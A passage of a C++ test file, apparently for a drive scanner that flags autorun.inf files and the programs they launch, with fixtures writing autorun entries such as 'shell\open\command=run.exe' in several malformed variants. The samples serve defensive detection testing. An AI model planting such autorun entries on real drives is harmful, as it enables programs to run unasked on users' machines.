       d.WriteFile(L"run.exe", kProgram);
     },
     {{L"autorun.inf.ren", Why::AutorunFile, L""}, {L"run.exe", Why::AutorunTarget, L""}}, {}},
    {"GarbageBeforeTheSection",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"autorun.inf", std::string("\x8f\x01\xfe junk line\r\n;comment\r\n[autorun]\r\nshell\\auto\\command=x.exe\r\n"));
       d.WriteFile(L"x.exe", kProgram);
     },
     {{L"autorun.inf.ren", Why::AutorunFile, L""}, {L"x.exe", Why::AutorunTarget, L""}}, {}},
    {"QuotedProgramNameWithABlank",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"autorun.inf", "[autorun]\nshell\\open\\command=\"my prog.exe\" /s\n");
       d.WriteFile(L"my prog.exe", kProgram);
     },
     {{L"autorun.inf.ren", Why::AutorunFile, L""}, {L"my prog.exe", Why::AutorunTarget, L""}}, {}},
    {"VerbKeysOfAnotherSectionStartNothing",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"autorun.inf", "[DeviceInstall]\nshell\\open\\command=run.exe\n");
       d.WriteFile(L"run.exe", kProgram);
     },
     {{L"autorun.inf.ren", Why::AutorunFile, L""}}, {}},
};
// clang-format on

INSTANTIATE_TEST_SUITE_P(AutorunVerbs, InterpreterShortcutTest, ::testing::ValuesIn(kAutorunVerbs),
                         [](const auto& testInfo) { return std::string(testInfo.param.name); });

}  // namespace

}  // namespace dw::test
